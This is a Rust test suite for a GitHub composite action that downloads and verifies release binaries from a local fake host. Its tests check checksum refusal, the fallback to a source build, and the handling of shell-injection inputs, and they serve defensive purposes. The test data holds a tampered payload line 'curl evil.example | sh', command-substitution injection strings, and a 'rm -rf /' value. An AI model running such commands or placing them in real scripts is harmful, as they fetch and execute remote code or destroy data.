//! The GitHub Action (action.yml) run as the runner runs a composite action:
//! each step's `env:` evaluated from the inputs, its `run:` script executed
//! by `bash -eo pipefail`, step outputs read from GITHUB_OUTPUT. The release
//! host is a local HTTP server; the "binaries" it serves are shell scripts
//! that record how they were called. Shows: the right asset per OS and
//! architecture, a checksum mismatch refused (and never "fixed" by building
//! from source), the cargo fallback only when no binary exists, and inputs
//! full of shell metacharacters reaching shipgate as literal text.
#![cfg(unix)]

use std::collections::{BTreeMap, HashMap};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use serde_json::Value;

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

// ---------------------------------------------------------------------------
// A release host: GET only, files from a map, 404 otherwise, a request log.

#[derive(Clone, Default)]
struct Host {
    files: Arc<Mutex<HashMap<String, Vec<u8>>>>,
    log: Arc<Mutex<Vec<String>>>,
    base: String,
}

impl Host {
    fn start() -> Host {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
        let port = listener.local_addr().expect("local addr").port();
        let host = Host {
            base: format!("http://127.0.0.1:{port}"),
            ..Host::default()
        };
        let h = host.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().expect("clone stream"));
                let mut first = String::new();
                if reader.read_line(&mut first).is_err() {
                    continue;
                }
                loop {
                    let mut line = String::new();
                    match reader.read_line(&mut line) {
                        Ok(0) | Err(_) => break,
                        Ok(_) if line == "\r\n" || line == "\n" => break,
                        Ok(_) => {}
                    }
                }
                let path = first.split_whitespace().nth(1).unwrap_or("").to_string();
                h.log.lock().unwrap().push(path.clone());
                let body = h.files.lock().unwrap().get(&path).cloned();
                let (status, body) = match body {
                    Some(b) => ("200 OK", b),
                    None => ("404 Not Found", b"Not Found".to_vec()),
                };
                let head = format!(
                    "HTTP/1.1 {status}\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(head.as_bytes());
                let _ = stream.write_all(&body);
                let _ = stream.flush();
            }
        });
        host
    }

    fn put(&self, path: &str, body: impl Into<Vec<u8>>) {
        self.files.lock().unwrap().insert(path.to_string(), body.into());
    }

    fn requests(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }
}

const TAG: &str = "v0.1.0";

const TARGETS: [(&str, &str, &str); 5] = [
    ("Linux", "X64", "shipgate-x86_64-unknown-linux-musl"),
    ("Linux", "ARM64", "shipgate-aarch64-unknown-linux-musl"),
    ("macOS", "ARM64", "shipgate-aarch64-apple-darwin"),
    ("macOS", "X64", "shipgate-x86_64-apple-darwin"),
    ("Windows", "X64", "shipgate-x86_64-pc-windows-msvc.exe"),
];

/// What `shipgate ci --help` of a fake binary says.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Ci {
    /// No `ci` command at all (clap's error, exit 2).
    Missing,
    /// Every option the action can pass.
    Full,
    /// `ci` with `--sarif` and `--config` only: no `--comment`, no `--fail-on`.
    Minimal,
}

/// A stand-in for a release binary: says which asset it is, and records its
/// working directory, the token it got and its argv (NUL-separated) in
/// $FAKE_ARGV_LOG. Its outputs are heredocs, as `shipgate ci` writes them;
/// `FAKE_WARNINGS` sets the warnings count (default 2).
fn fake_binary(name: &str, ci: Ci) -> String {
    let help = match ci {
        Ci::Missing => "echo \"error: unrecognized subcommand 'ci'\" >&2; exit 2",
        Ci::Full => "printf 'Usage: shipgate ci [OPTIONS]\\n      --comment <BOOL>\\n      --fail-on <LEVEL>\\n      --sarif-file <FILE>\\n      --config <FILE>\\n'; exit 0",
        Ci::Minimal => "printf 'Usage: shipgate ci [OPTIONS]\\n      --dir <DIR>\\n      --token <TOKEN>\\n      --sarif <FILE>\\n      --report <FILE>\\n      --config <FILE>\\n'; exit 0",
    };
    format!(
        r#"#!/bin/sh
case "${{1:-}}" in
    --version) echo "shipgate 0.1.0 ({name})"; exit 0 ;;
esac
if [ "${{1:-}}" = ci ] && [ "${{2:-}}" = --help ]; then {help}; fi
printf '%s\0' "cwd=$(pwd -P)" "token=${{GITHUB_TOKEN:-}}" "$@" > "$FAKE_ARGV_LOG"
for kv in verdict=pass errors=0 "warnings=${{FAKE_WARNINGS:-2}}" "report=$PWD/shipgate-report.json"; do
    printf '%s<<ghadelimiter_1234\n%s\nghadelimiter_1234\n' "${{kv%%=*}}" "${{kv#*=}}" >> "$GITHUB_OUTPUT"
done
"#
    )
}

fn sha256_hex(path: &Path) -> String {
    // sha256sum (GNU) or shasum (macOS); both print "<hex>  <file>".
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .or_else(|_| Command::new("shasum").args(["-a", "256"]).arg(path).output())
        .expect("sha256sum or shasum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string()
}

/// Publishes every target's fake binary and a correct SHA256SUMS.
fn publish(host: &Host, dir: &Path) {
    let mut sums = String::new();
    for (_, _, asset) in TARGETS {
        let body = fake_binary(asset, Ci::Full);
        let p = dir.join(asset);
        std::fs::write(&p, &body).unwrap();
        sums.push_str(&format!("{}  {asset}\n", sha256_hex(&p)));
        host.put(&format!("/download/{TAG}/{asset}"), body);
    }
    host.put(&format!("/download/{TAG}/SHA256SUMS"), sums);
}

// ---------------------------------------------------------------------------
// The composite-action runner.

struct Action {
    doc: Value,
}

impl Action {
    fn load() -> Action {
        let text = std::fs::read_to_string(Path::new(ROOT).join("action.yml")).expect("read action.yml");
        let doc = shipgate::yaml::parse(&text).expect("action.yml is YAML").value;
        assert_eq!(doc["runs"]["using"], "composite");
        Action { doc }
    }

    fn input_default(&self, name: &str) -> String {
        match &self.doc["inputs"][name]["default"] {
            Value::String(s) => s.clone(),
            Value::Null => String::new(),
            v => v.to_string(),
        }
    }
}

/// What a run of the action produced.
#[derive(Debug, Default)]
struct Run {
    /// Exit status of each step that ran.
    statuses: Vec<i32>,
    stdout: String,
    stderr: String,
    steps: BTreeMap<String, BTreeMap<String, String>>,
    outputs: BTreeMap<String, String>,
}

impl Run {
    fn ok(&self) -> bool {
        self.statuses.iter().all(|s| *s == 0)
    }
    fn text(&self) -> String {
        format!("stdout:\n{}\nstderr:\n{}", self.stdout, self.stderr)
    }
}

struct Runner {
    tmp: tempfile::TempDir,
    os: String,
    arch: String,
    env: Vec<(String, String)>,
    /// Directories put before /usr/bin:/bin on PATH.
    path: Vec<PathBuf>,
    workspace: PathBuf,
}

impl Runner {
    fn new(os: &str, arch: &str) -> Runner {
        let tmp = tempfile::tempdir().unwrap();
        let workspace = tmp.path().join("workspace");
        std::fs::create_dir_all(&workspace).unwrap();
        Runner {
            tmp,
            os: os.into(),
            arch: arch.into(),
            env: Vec::new(),
            path: Vec::new(),
            workspace,
        }
    }

    fn runner_temp(&self) -> PathBuf {
        self.tmp.path().join("runner-temp")
    }

    /// Evaluates the `${{ }}` expressions of one `env:` value.
    fn eval(&self, action: &Action, value: &str, inputs: &BTreeMap<String, String>, run: &Run) -> String {
        let mut out = String::new();
        let mut rest = value;
        while let Some(start) = rest.find("${{") {
            out.push_str(&rest[..start]);
            let end = rest[start..].find("}}").expect("unterminated expression") + start;
            let expr = rest[start + 3..end].trim();
            let parts: Vec<&str> = expr.split('.').collect();
            let v = match parts.as_slice() {
                ["inputs", name] => match inputs.get(*name) {
                    Some(v) => v.clone(),
                    None => self.eval(action, &action.input_default(name), inputs, run),
                },
                ["github", "token"] => "ghs_faketoken".to_string(),
                ["github", "action_repository"] => String::new(),
                ["steps", id, "outputs", name] => run
                    .steps
                    .get(*id)
                    .and_then(|o| o.get(*name))
                    .cloned()
                    .unwrap_or_default(),
                _ => panic!("the test runner does not know the expression `{expr}`; keep action.yml simple"),
            };
            out.push_str(&v);
            rest = &rest[end + 2..];
        }
        out.push_str(rest);
        out
    }

    fn run(&self, inputs: &[(&str, &str)]) -> Run {
        let action = Action::load();
        let declared = action.doc["inputs"].as_object().expect("inputs");
        let inputs: BTreeMap<String, String> = inputs
            .iter()
            .map(|(k, v)| {
                assert!(declared.contains_key(*k), "action.yml has no input `{k}`");
                (k.to_string(), v.to_string())
            })
            .collect();
        std::fs::create_dir_all(self.runner_temp()).unwrap();
        let github_path = self.tmp.path().join("github_path");
        let mut run = Run::default();
        let steps = action.doc["runs"]["steps"].as_array().expect("steps").clone();
        for (i, step) in steps.iter().enumerate() {
            assert_eq!(step["shell"], "bash", "step {i} must use bash");
            assert!(step.get("if").is_none(), "the runner here does not evaluate `if:`");
            let script = step["run"].as_str().expect("a run: step");
            assert!(
                !script.contains("${{"),
                "step {i} interpolates an expression inside run:"
            );
            let script_file = self.tmp.path().join(format!("step-{i}.sh"));
            std::fs::write(&script_file, script).unwrap();
            let output_file = self.tmp.path().join(format!("output-{i}"));
            std::fs::write(&output_file, "").unwrap();
            let mut path = self.path.iter().map(|p| p.display().to_string()).collect::<Vec<_>>();
            path.push("/usr/local/bin:/usr/bin:/bin".into());
            let mut cmd = Command::new("bash");
            cmd.args(["--noprofile", "--norc", "-eo", "pipefail"])
                .arg(&script_file)
                .current_dir(&self.workspace)
                .env_clear()
                .env("PATH", path.join(":"))
                .env("HOME", self.tmp.path())
                .env("RUNNER_OS", &self.os)
                .env("RUNNER_ARCH", &self.arch)
                .env("RUNNER_TEMP", self.runner_temp())
                .env("GITHUB_ACTION_PATH", ROOT)
                .env("GITHUB_OUTPUT", &output_file)
                .env("GITHUB_PATH", &github_path)
                .env("GITHUB_SERVER_URL", "https://github.com")
                .env("GITHUB_REPOSITORY", "octo/shipgate")
                .env("GITHUB_WORKSPACE", &self.workspace);
            for (k, v) in &self.env {
                cmd.env(k, v);
            }
            if let Some(env) = step["env"].as_object() {
                for (k, v) in env {
                    let v = v.as_str().map(str::to_string).unwrap_or_else(|| v.to_string());
                    cmd.env(k, self.eval(&action, &v, &inputs, &run));
                }
            }
            let out = cmd.output().expect("run bash");
            run.stdout.push_str(&String::from_utf8_lossy(&out.stdout));
            run.stderr.push_str(&String::from_utf8_lossy(&out.stderr));
            let status = out.status.code().unwrap_or(-1);
            run.statuses.push(status);
            if let Some(id) = step["id"].as_str() {
                let text = std::fs::read_to_string(&output_file).unwrap_or_default();
                run.steps.insert(id.to_string(), parse_outputs(&text));
            }
            if status != 0 {
                return run;
            }
        }
        if let Some(outputs) = action.doc["outputs"].as_object() {
            for (k, v) in outputs {
                let value = v["value"].as_str().unwrap_or_default();
                let value = self.eval(&action, value, &inputs, &run);
                run.outputs.insert(k.clone(), value);
            }
        }
        run
    }
}

/// `name=value` lines and `name<<DELIM` blocks, as the runner reads GITHUB_OUTPUT.
fn parse_outputs(text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if let Some((k, delim)) = line.split_once("<<") {
            let mut v = Vec::new();
            for l in lines.by_ref() {
                if l == delim {
                    break;
                }
                v.push(l);
            }
            out.insert(k.to_string(), v.join("\n"));
        } else if let Some((k, v)) = line.split_once('=') {
            out.insert(k.to_string(), v.to_string());
        }
    }
    out
}

/// A `cargo` that records its arguments and "builds" a fake shipgate into `--root`.
fn fake_cargo(dir: &Path, log: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let body = fake_binary("built-from-source", Ci::Full)
        .replace('\\', "\\\\")
        .replace('\'', "'\\''");
    let script = format!(
        r#"#!/bin/sh
printf '%s\n' "$@" > '{log}'
root=""
while [ $# -gt 0 ]; do
    if [ "$1" = --root ]; then root=$2; fi
    shift
done
mkdir -p "$root/bin"
printf '%s' '{body}' > "$root/bin/shipgate"
chmod +x "$root/bin/shipgate"
"#,
        log = log.display(),
    );
    let p = dir.join("cargo");
    std::fs::write(&p, script).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn argv(log: &Path) -> Vec<String> {
    let bytes = std::fs::read(log).unwrap_or_else(|e| panic!("{} was not written: {e}", log.display()));
    bytes
        .split(|b| *b == 0)
        .filter(|s| !s.is_empty())
        .map(|s| String::from_utf8_lossy(s).into_owned())
        .collect()
}

fn setup(os: &str, arch: &str, host: &Host) -> Runner {
    let mut r = Runner::new(os, arch);
    r.env.push((
        "SHIPGATE_RELEASE_BASE_URL".into(),
        format!("{}/download/{TAG}", host.base),
    ));
    let log = r.tmp.path().join("argv");
    r.env.push(("FAKE_ARGV_LOG".into(), log.display().to_string()));
    r.env.push((
        "FAKE_CARGO_LOG".into(),
        r.tmp.path().join("cargo-args").display().to_string(),
    ));
    let cargo_dir = r.tmp.path().join("cargo-bin");
    fake_cargo(&cargo_dir, &r.tmp.path().join("cargo-args"));
    r.path.push(cargo_dir);
    r
}

#[test]
fn the_right_asset_is_picked_for_each_os_and_architecture() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    for (os, arch, asset) in TARGETS {
        let r = setup(os, arch, &host);
        let before = host.requests().len();
        let run = r.run(&[]);
        assert!(run.ok(), "{os}/{arch}: {}", run.text());
        let path = &run.steps["install"]["path"];
        let expected_name = if os == "Windows" { "shipgate.exe" } else { "shipgate" };
        assert!(path.ends_with(expected_name), "{os}/{arch}: installed as {path}");
        let installed = std::fs::read_to_string(path).unwrap();
        assert!(
            installed.contains(&format!("({asset})")),
            "{os}/{arch} installed {installed}"
        );
        let got: Vec<String> = host.requests()[before..].to_vec();
        assert_eq!(
            got,
            vec![
                format!("/download/{TAG}/SHA256SUMS"),
                format!("/download/{TAG}/{asset}")
            ],
            "{os}/{arch}"
        );
        assert_eq!(run.steps["install"]["source"], "release");
        assert!(
            !r.tmp.path().join("cargo-args").exists(),
            "{os}/{arch}: cargo must not run when a binary exists"
        );
        // The action's outputs are what `shipgate ci` wrote to GITHUB_OUTPUT.
        assert_eq!(run.outputs["verdict"], "pass");
        assert_eq!(run.outputs["warnings"], "2");
        assert!(run.outputs["report"].ends_with("shipgate-report.json"));
        println!("{os}/{arch} -> {asset}");
    }
}

#[test]
fn a_checksum_mismatch_is_refused_and_not_built_from_source() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    // The binary on the host is not the one SHA256SUMS describes.
    host.put(
        &format!("/download/{TAG}/shipgate-x86_64-unknown-linux-musl"),
        fake_binary("tampered", Ci::Full) + "curl evil.example | sh\n",
    );
    let r = setup("Linux", "X64", &host);
    let run = r.run(&[]);
    assert!(!run.ok(), "a tampered binary was accepted: {}", run.text());
    assert_eq!(run.statuses, vec![1], "only the install step ran, and failed");
    assert!(
        run.stdout.contains("::error title=shipgate::checksum mismatch"),
        "{}",
        run.text()
    );
    assert!(run.stderr.contains("refusing to install it"), "{}", run.text());
    assert!(!r.runner_temp().join("shipgate/bin/shipgate").exists());
    assert!(
        !r.tmp.path().join("cargo-args").exists(),
        "fell back to cargo after a mismatch"
    );
    assert!(!r.tmp.path().join("argv").exists(), "shipgate ran");
}

#[test]
fn a_listed_asset_missing_from_the_release_is_refused() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    host.files
        .lock()
        .unwrap()
        .remove(&format!("/download/{TAG}/shipgate-aarch64-apple-darwin"));
    let r = setup("macOS", "ARM64", &host);
    let run = r.run(&[]);
    assert_eq!(run.statuses, vec![1], "{}", run.text());
    assert!(run.stderr.contains("refusing to guess"), "{}", run.text());
    assert!(!r.tmp.path().join("cargo-args").exists());
}

#[test]
fn cargo_install_is_the_fallback_only_when_no_binary_exists() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    // No binary is published for 32-bit ARM Linux.
    let r = setup("Linux", "ARM", &host);
    let run = r.run(&[]);
    assert!(run.ok(), "{}", run.text());
    assert_eq!(run.steps["install"]["source"], "cargo");
    let cargo = std::fs::read_to_string(r.tmp.path().join("cargo-args")).unwrap();
    let args: Vec<&str> = cargo.lines().collect();
    assert_eq!(args[0], "install");
    assert!(args.contains(&"--locked"), "{args:?}");
    let p = args.iter().position(|a| *a == "--path").expect("--path");
    assert_eq!(args[p + 1], ROOT, "builds the action's own (tagged) source");
    assert!(std::fs::read_to_string(&run.steps["install"]["path"])
        .unwrap()
        .contains("built-from-source"));

    // A release without any binaries (no SHA256SUMS) also builds from source.
    let empty = Host::start();
    let r = setup("Linux", "X64", &empty);
    let run = r.run(&[]);
    assert!(run.ok(), "{}", run.text());
    assert_eq!(run.steps["install"]["source"], "cargo");
    assert_eq!(empty.requests(), vec![format!("/download/{TAG}/SHA256SUMS")]);
}

#[test]
fn inputs_with_shell_metacharacters_reach_shipgate_as_literal_text() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    let r = setup("Linux", "X64", &host);
    let canary = r.tmp.path().join("pwned");
    let c = canary.display().to_string();
    let config = format!("$(touch {c}-1)`touch {c}-2`'\"; touch {c}-3; echo \"");
    let sarif = format!("-x $(touch {c}-4) && touch {c}-5 | tee {c}-6 > {c}-7 ${{HOME}} *");
    let token = format!("tok'en\"$(touch {c}-8)`touch {c}-9`");
    let wd = "dir with space $(touch pwned-wd) `touch pwned-wd2` 'q' \"dq\"";
    std::fs::create_dir_all(r.workspace.join(wd)).unwrap();
    let run = r.run(&[
        ("config", &config),
        ("sarif-file", &sarif),
        ("github-token", &token),
        ("working-directory", wd),
        ("comment", "false"),
        ("fail-on", "warning"),
    ]);
    assert!(run.ok(), "{}", run.text());
    let got = argv(&r.tmp.path().join("argv"));
    let cwd = r.workspace.join(wd).canonicalize().unwrap();
    assert_eq!(
        got,
        vec![
            format!("cwd={}", cwd.display()),
            format!("token={token}"),
            "ci".to_string(),
            "--comment=false".to_string(),
            format!("--config={config}"),
            format!("--sarif-file={sarif}"),
            "--fail-on=warning".to_string(),
        ]
    );
    for n in 1..=9 {
        let p = PathBuf::from(format!("{c}-{n}"));
        assert!(!p.exists(), "{} was created: an input was executed", p.display());
    }
    for dir in [r.workspace.clone(), r.workspace.join(wd)] {
        for name in ["pwned-wd", "pwned-wd2"] {
            assert!(!dir.join(name).exists(), "{} was created", dir.join(name).display());
        }
    }
    // The token never appears on the command line.
    assert!(!got[2..].iter().any(|a| a.contains("tok'en")));
}

#[test]
fn bad_inputs_are_usage_errors() {
    let host = Host::start();
    let assets = tempfile::tempdir().unwrap();
    publish(&host, assets.path());
    for (input, value, says) in [
        ("comment", "yes please", "`comment` must be true or false"),
        ("fail-on", "note", "`fail-on` must be error or warning"),
        ("working-directory", "no/such/dir", "is not a directory"),
        ("version", "1.0; rm -rf /", "`version` must be X.Y.Z"),
    ] {
        let r = setup("Linux", "X64", &host);
        let run = r.run(&[(input, value)]);
        assert_eq!(run.statuses.last(), Some(&2), "{input}={value}: {}", run.text());
        assert!(run.stdout.contains("::error title=shipgate::"), "{}", run.text());
        assert!(run.stderr.contains(says), "{input}: {}", run.text());
    }
}

#[test]
fn a_shipgate_without_the_ci_command_fails_and_never_passes() {
    let host = Host::start();
    let dir = tempfile::tempdir().unwrap();
    let asset = "shipgate-x86_64-unknown-linux-musl";
    let body = fake_binary(asset, Ci::Missing);
    let p = dir.path().join(asset);
    std::fs::write(&p, &body).unwrap();
    host.put(&format!("/download/{TAG}/{asset}"), body);
    host.put(
        &format!("/download/{TAG}/SHA256SUMS"),
        format!("{} *{asset}\n", sha256_hex(&p)),
    );
    let r = setup("Linux", "X64", &host);
    let run = r.run(&[]);
    assert_eq!(run.statuses, vec![0, 3], "{}", run.text());
    assert!(run.stderr.contains("has no `ci` command"), "{}", run.text());
}

#[test]
fn no_expression_is_interpolated_in_a_run_script() {
    let action = Action::load();
    for step in action.doc["runs"]["steps"].as_array().unwrap() {
        let run = step["run"].as_str().unwrap_or_default();
        assert!(!run.contains("${{"), "{run}");
    }
    // And the scripts the steps call read inputs only from the environment.
    for script in ["scripts/action-install.sh", "scripts/action-run.sh"] {
        let mut text = String::new();
        std::fs::File::open(Path::new(ROOT).join(script))
            .and_then(|mut f| f.read_to_string(&mut text))
            .unwrap();
        assert!(!text.contains("eval "), "{script} uses eval");
        assert!(text.starts_with("#!/usr/bin/env bash\n"), "{script}");
        assert!(text.contains("set -euo pipefail"), "{script}");
    }
}

#[test]
fn version_source_builds_the_actions_own_source_and_another_version_builds_its_tag() {
    let host = Host::start();
    let r = setup("Linux", "X64", &host);
    let run = r.run(&[("version", "source")]);
    assert!(run.ok(), "{}", run.text());
    assert!(host.requests().is_empty(), "`source` downloads nothing");
    let cargo = std::fs::read_to_string(r.tmp.path().join("cargo-args")).unwrap();
    assert!(cargo.lines().any(|l| l == ROOT), "{cargo}");
    assert_eq!(run.steps["install"]["tag"], "source");

    // A version other than the action's own, with no binary for it: built from that tag.
    let r = setup("Linux", "X64", &host);
    let run = r.run(&[("version", "9.9.9")]);
    assert!(run.ok(), "{}", run.text());
    let cargo = std::fs::read_to_string(r.tmp.path().join("cargo-args")).unwrap();
    let args: Vec<&str> = cargo.lines().collect();
    let at = |flag: &str| args[args.iter().position(|a| *a == flag).expect(flag) + 1];
    assert_eq!(at("--git"), "https://github.com/octo/shipgate");
    assert_eq!(at("--tag"), "v9.9.9");
    assert!(args.contains(&"--locked"));
}

/// Publishes one Linux x64 fake with the given `ci`.
fn publish_one(host: &Host, dir: &Path, ci: Ci) {
    let asset = "shipgate-x86_64-unknown-linux-musl";
    let body = fake_binary(asset, ci);
    let p = dir.join(asset);
    std::fs::write(&p, &body).unwrap();
    host.put(&format!("/download/{TAG}/{asset}"), body);
    host.put(
        &format!("/download/{TAG}/SHA256SUMS"),
        format!("{} *{asset}\n", sha256_hex(&p)),
    );
}

#[test]
fn options_this_shipgate_lacks_are_handled_not_passed() {
    // A `ci` with `--sarif` and `--config` only (no --comment, --fail-on, --sarif-file).
    let host = Host::start();
    let dir = tempfile::tempdir().unwrap();
    publish_one(&host, dir.path(), Ci::Minimal);

    let r = setup("Linux", "X64", &host);
    let run = r.run(&[
        ("sarif-file", "out.sarif"),
        ("config", "gate.yml"),
        ("comment", "false"),
    ]);
    assert!(run.ok(), "{}", run.text());
    let got = argv(&r.tmp.path().join("argv"));
    assert_eq!(got[2..], ["ci", "--config=gate.yml", "--sarif=out.sarif"]);
    assert!(
        run.stdout
            .contains("::warning title=shipgate::this shipgate's `ci` has no --comment option"),
        "{}",
        run.text()
    );

    // fail-on: warning is still honoured: 2 warnings fail the step.
    let r = setup("Linux", "X64", &host);
    let run = r.run(&[("fail-on", "warning")]);
    assert_eq!(run.statuses, vec![0, 1], "{}", run.text());
    assert!(
        run.stderr.contains("2 unapproved warning(s), and fail-on is warning"),
        "{}",
        run.text()
    );
    assert_eq!(run.steps["run"]["warnings"], "2");

    // ... and no warnings pass.
    let mut r = setup("Linux", "X64", &host);
    r.env.push(("FAKE_WARNINGS".into(), "0".into()));
    let run = r.run(&[("fail-on", "warning")]);
    assert!(run.ok(), "{}", run.text());
    assert_eq!(run.outputs["verdict"], "pass");
}
